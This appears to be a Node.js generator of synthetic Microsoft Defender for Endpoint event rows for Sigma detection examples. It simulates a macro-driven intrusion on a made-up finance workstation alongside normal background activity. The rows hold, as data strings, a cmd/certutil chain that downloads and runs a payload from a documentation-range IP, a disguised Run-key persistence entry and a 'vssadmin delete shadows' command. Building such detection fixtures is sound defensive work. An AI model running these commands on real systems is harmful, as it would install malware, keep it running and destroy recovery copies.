#!/usr/bin/env node
// Generates examples/sigma/events.ndjson: Microsoft Defender for Endpoint rows (Streaming API
// storage-blob records, NDJSON) of one Windows 11 workstation, ws-fin-07, on 2026-03-10: a macro in
// a Word document runs `whoami /all`, downloads a payload with certutil, makes it start at logon
// through the Run key of the user's hive and deletes the shadow copies — next to the ordinary
// background of the same morning (Edge started from the Start menu, Teams, a Windows Update task,
// Defender's own signature update writing its registry values).
//
//   node make-events.mjs          write events.ndjson
//   node make-events.mjs --check  exit 1 when events.ndjson differs from what this script writes
//
// Columns are spelled as Defender writes them: the initiating process's folder path lower-cased,
// the registry key with its long hive name and the user's SID, DWORD data as a decimal number,
// AccountDomain and AccountName apart. Addresses of the attacker are from RFC 5737.
// Deterministic: no clock, no randomness, no dependencies.

import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
const OUT = join(HERE, 'events.ndjson');

const TENANT_ID = '3a9c5e71-0b2d-4f68-9e14-c7d2a8f05b36';
const DEVICE_ID = '9b2e4c6a8d0f1e3a5c7b9d1f3e5a7c9b1d3f5e7a';
const DEVICE_NAME = 'ws-fin-07.contoso.local';
const MACHINE_GROUP = 'Finance workstations';
const DOMAIN = 'contoso';
const USER = 'jdoe';
const SID = 'S-1-5-21-1004336348-1177238915-682003330-1118';
export const C2 = '198.51.100.23';

const hex = (algo, text) => createHash(algo).update(text, 'utf8').digest('hex');
const at = (hms) => `2026-03-10T${hms}Z`;

let reportId = 4100;
/** One Streaming API record of a table. */
function record(table, time, properties) {
  return {
    time: at(time),
    tenantId: TENANT_ID,
    operationName: 'Publish',
    category: `AdvancedHunting-${table}`,
    properties: {
      Timestamp: at(time),
      DeviceId: DEVICE_ID,
      DeviceName: DEVICE_NAME,
      ReportId: reportId++,
      MachineGroup: MACHINE_GROUP,
      ...properties,
    },
    Tenant: 'DefaultTenant',
  };
}

/** The InitiatingProcess* columns of a process (Defender lower-cases the folder path). */
function initiating(p) {
  return {
    InitiatingProcessAccountDomain: p.domain ?? DOMAIN,
    InitiatingProcessAccountName: p.user ?? USER,
    InitiatingProcessAccountSid: p.sid ?? SID,
    InitiatingProcessIntegrityLevel: p.integrity ?? 'Medium',
    InitiatingProcessTokenElevation: 'TokenElevationTypeDefault',
    InitiatingProcessSHA1: hex('sha1', p.path),
    InitiatingProcessSHA256: hex('sha256', p.path),
    InitiatingProcessMD5: hex('md5', p.path),
    InitiatingProcessFileName: p.path.split('\\').pop(),
    InitiatingProcessFileSize: p.size,
    InitiatingProcessVersionInfoCompanyName: p.company ?? 'Microsoft Corporation',
    InitiatingProcessVersionInfoProductName: p.product ?? 'Microsoft® Windows® Operating System',
    InitiatingProcessVersionInfoOriginalFileName: p.original ?? p.path.split('\\').pop(),
    InitiatingProcessId: p.pid,
    InitiatingProcessCommandLine: p.cmd,
    InitiatingProcessCreationTime: at(p.started),
    InitiatingProcessFolderPath: p.path.toLowerCase(),
    InitiatingProcessParentId: p.ppid,
    InitiatingProcessParentFileName: p.parent,
    InitiatingProcessSignerType: p.signer ?? 'OsVendor',
    InitiatingProcessSignatureStatus: p.signature ?? 'Valid',
  };
}

/** A ProcessCreated row: `proc` started by `parent`. */
function processCreated(time, proc, parent) {
  const file = proc.path.split('\\').pop();
  return record('DeviceProcessEvents', time, {
    ActionType: 'ProcessCreated',
    FileName: file,
    FolderPath: proc.path,
    SHA1: hex('sha1', proc.path),
    SHA256: hex('sha256', proc.path),
    MD5: hex('md5', proc.path),
    FileSize: proc.size,
    ProcessVersionInfoCompanyName: proc.company ?? 'Microsoft Corporation',
    ProcessVersionInfoProductName: proc.product ?? 'Microsoft® Windows® Operating System',
    ProcessVersionInfoProductVersion: proc.version ?? '10.0.22621.3155',
    ProcessVersionInfoInternalFileName: proc.internal ?? file,
    ProcessVersionInfoOriginalFileName: proc.original ?? file,
    ProcessVersionInfoFileDescription: proc.description,
    ProcessId: proc.pid,
    ProcessCommandLine: proc.cmd,
    ProcessIntegrityLevel: proc.integrity ?? 'Medium',
    ProcessTokenElevation: proc.elevation ?? 'TokenElevationTypeDefault',
    ProcessCreationTime: at(time),
    AccountDomain: proc.domain ?? DOMAIN,
    AccountName: proc.user ?? USER,
    AccountSid: proc.sid ?? SID,
    AccountUpn: proc.upn === null ? null : `${USER}@contoso.com`,
    AccountObjectId: proc.upn === null ? null : 'f2c8a4e6-1b3d-4f5a-9c7e-2d4b6a8c0e1f',
    LogonId: proc.logonId ?? 2938471,
    ...initiating(parent),
    AdditionalFields: null,
    ProcessUniqueId: String(proc.pid * 7919),
  });
}

/** A RegistryValueSet row, as Defender writes it: key and value name apart, the user's hive by SID. */
function registryValueSet(time, key, name, type, data, by) {
  return record('DeviceRegistryEvents', time, {
    ActionType: 'RegistryValueSet',
    RegistryKey: key,
    RegistryValueType: type,
    RegistryValueName: name,
    RegistryValueData: data,
    PreviousRegistryKey: '',
    PreviousRegistryValueName: '',
    PreviousRegistryValueData: '',
    ...initiating(by),
  });
}

const EXPLORER = {
  path: 'C:\\Windows\\explorer.exe',
  size: 5_452_344,
  pid: 4312,
  ppid: 4288,
  parent: 'userinit.exe',
  cmd: 'C:\\WINDOWS\\Explorer.EXE',
  started: '07:58:12.4101122',
};
const SVCHOST = {
  path: 'C:\\Windows\\System32\\svchost.exe',
  size: 57_360,
  pid: 1720,
  ppid: 812,
  parent: 'services.exe',
  cmd: 'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  started: '07:56:40.1180021',
  domain: 'nt authority',
  user: 'system',
  sid: 'S-1-5-18',
  integrity: 'System',
};
const WORD = {
  path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  size: 1_622_400,
  pid: 7140,
  ppid: 4312,
  parent: 'explorer.exe',
  cmd: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\jdoe\\Downloads\\Invoice_2026-0311.docm" /o ""',
  started: '09:14:02.5511870',
  product: 'Microsoft Office',
};
const CMD = {
  path: 'C:\\Windows\\System32\\cmd.exe',
  size: 323_584,
  pid: 7388,
  ppid: 7140,
  parent: 'WINWORD.EXE',
  cmd: 'cmd.exe /c whoami /all > %TEMP%\\w.txt & certutil.exe -urlcache -split -f http://198.51.100.23/upd/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe',
  started: '09:14:31.0912345',
};
const PAYLOAD = {
  path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\p.exe',
  size: 184_320,
  pid: 7702,
  ppid: 7388,
  parent: 'cmd.exe',
  cmd: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\p.exe',
  started: '09:14:36.8810456',
  company: '',
  product: '',
  original: '',
  signer: 'None',
  signature: 'Unsigned',
};
const MPCMDRUN = {
  path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe',
  size: 1_553_272,
  pid: 6120,
  ppid: 1720,
  parent: 'svchost.exe',
  cmd: '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges',
  started: '08:30:00.0213311',
  domain: 'nt authority',
  user: 'system',
  sid: 'S-1-5-18',
  integrity: 'System',
};

/** The rows, in time order, and which are steps of the intrusion. */
export function build() {
  reportId = 4100;
  const rows = [
    // Background: the user opens Edge and Teams; the scheduler runs Defender's signature update.
    processCreated(
      '08:01:15.2214410',
      {
        path: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
        size: 4_081_080,
        pid: 5520,
        cmd: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --profile-directory=Default',
        description: 'Microsoft Edge',
        product: 'Microsoft Edge',
        version: '122.0.2365.80',
      },
      EXPLORER,
    ),
    processCreated(
      '08:02:03.9120034',
      {
        path: 'C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
        size: 137_251_736,
        pid: 5904,
        cmd: '"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --process-start-args "--profile=AAD"',
        description: 'Microsoft Teams',
        product: 'Microsoft Teams',
        version: '1.7.00.3653',
      },
      EXPLORER,
    ),
    processCreated(
      '08:30:00.0213311',
      {
        path: MPCMDRUN.path,
        size: MPCMDRUN.size,
        pid: MPCMDRUN.pid,
        cmd: MPCMDRUN.cmd,
        description: 'Microsoft Malware Protection Command Line Utility',
        product: 'Microsoft Malware Protection',
        version: '4.18.24010.12',
        domain: 'nt authority',
        user: 'system',
        sid: 'S-1-5-18',
        integrity: 'System',
        upn: null,
        logonId: 999,
      },
      SVCHOST,
    ),
    registryValueSet(
      '08:30:41.7788120',
      'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates',
      'SignaturesLastUpdated',
      'Binary',
      '',
      MPCMDRUN,
    ),
    // The intrusion: a macro document opened from Downloads.
    processCreated(
      '09:14:02.5511870',
      {
        path: WORD.path,
        size: WORD.size,
        pid: WORD.pid,
        cmd: WORD.cmd,
        description: 'Microsoft Word',
        product: 'Microsoft Office',
        version: '16.0.17328.20162',
        internal: 'WinWord',
        original: 'WinWord.exe',
      },
      EXPLORER,
    ),
    processCreated(
      '09:14:31.0912345',
      {
        path: CMD.path,
        size: CMD.size,
        pid: CMD.pid,
        cmd: CMD.cmd,
        description: 'Windows Command Processor',
        original: 'Cmd.Exe',
        internal: 'cmd',
      },
      WORD,
    ),
    processCreated(
      '09:14:31.2043310',
      {
        path: 'C:\\Windows\\System32\\whoami.exe',
        size: 74_240,
        pid: 7412,
        cmd: 'whoami  /all',
        description: 'whoami - displays logged on user information',
        original: 'whoami.exe',
      },
      CMD,
    ),
    processCreated(
      '09:14:33.6671009',
      {
        path: 'C:\\Windows\\System32\\certutil.exe',
        size: 1_428_992,
        pid: 7460,
        cmd: `certutil.exe  -urlcache -split -f http://${C2}/upd/p.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\p.exe`,
        description: 'CertUtil.exe',
        original: 'CertUtil.exe',
      },
      CMD,
    ),
    processCreated(
      '09:14:36.8810456',
      {
        path: PAYLOAD.path,
        size: PAYLOAD.size,
        pid: PAYLOAD.pid,
        cmd: PAYLOAD.cmd,
        description: '',
        company: '',
        product: '',
        version: '',
        internal: '',
        original: '',
      },
      CMD,
    ),
    registryValueSet(
      '09:14:39.1022214',
      `HKEY_CURRENT_USER\\${SID}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`,
      'OneDriveUpdater',
      'String',
      'C:\\Users\\jdoe\\AppData\\Local\\Temp\\p.exe',
      PAYLOAD,
    ),
    processCreated(
      '09:15:02.4410087',
      {
        path: 'C:\\Windows\\System32\\vssadmin.exe',
        size: 137_216,
        pid: 7820,
        cmd: 'vssadmin.exe delete shadows /all /quiet',
        description: 'Command Line Interface for Microsoft® Volume Shadow Copy Service ',
        original: 'VSSADMIN.EXE',
        integrity: 'High',
        elevation: 'TokenElevationTypeFull',
      },
      PAYLOAD,
    ),
  ];
  const text = `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`;
  return { rows, text };
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const { text } = build();
  if (process.argv.includes('--check')) {
    if (readFileSync(OUT, 'utf8') !== text) {
      process.stderr.write('examples/sigma/events.ndjson differs from what make-events.mjs writes\n');
      process.exit(1);
    }
  } else writeFileSync(OUT, text);
}
